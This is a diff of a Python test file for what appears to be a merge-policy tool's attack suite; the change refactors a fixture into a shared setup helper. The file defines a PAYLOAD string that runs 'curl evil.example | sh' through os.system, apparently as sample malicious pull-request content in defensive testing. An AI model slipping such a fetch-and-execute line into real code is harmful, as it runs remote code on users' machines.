@@ -16,9 +16,7 @@ and is processed; the maintainer's single approval then passes the agent's pull 
 
 from __future__ import annotations
 
-import itertools
 from collections.abc import Iterator
-from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -26,7 +24,7 @@ import pytest
 
 import app.github.gather as gather
 from app.demo.stack import local_stack
-from tests.attacks.harness import ADMIN, AUTHOR, MAINTAINER, POLICY, REPO, Attack
+from tests.attacks.harness import ADMIN, MAINTAINER, REPO, Attack, set_up
 
 PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"
 STRICT = """\
@@ -42,22 +40,7 @@ merge:
 def org_attack(tmp_path: Path) -> Iterator[Attack]:
     """The harness's repository, its policy in the org's `.github` repository instead."""
     with local_stack(tmp_path) as stack:
-        ticks = itertools.count(1)
-        start = datetime.now(UTC).replace(microsecond=0)
-        stack.sim.world.now = lambda: start + timedelta(seconds=next(ticks))  # type: ignore[method-assign]
-        stack.sim.add_repo(
-            "acme/.github", files={"foureyes.yml": POLICY.format(issuer=stack.issuer.url)}
-        )
-        stack.sim.add_repo(REPO, files={"src/app.py": "print(1)\n"})
-        for login, role in (
-            ("alice", "write"),
-            ("bob", "write"),
-            (MAINTAINER, "write"),
-            (AUTHOR, "write"),
-            (ADMIN, "admin"),
-        ):
-            stack.sim.set_role(REPO, login, role)
-        yield Attack(stack)
+        yield set_up(stack, policy_in_org=True)
 
 
 def test_r2_a_policy_landing_during_a_read_is_not_forgotten_for_an_hour(
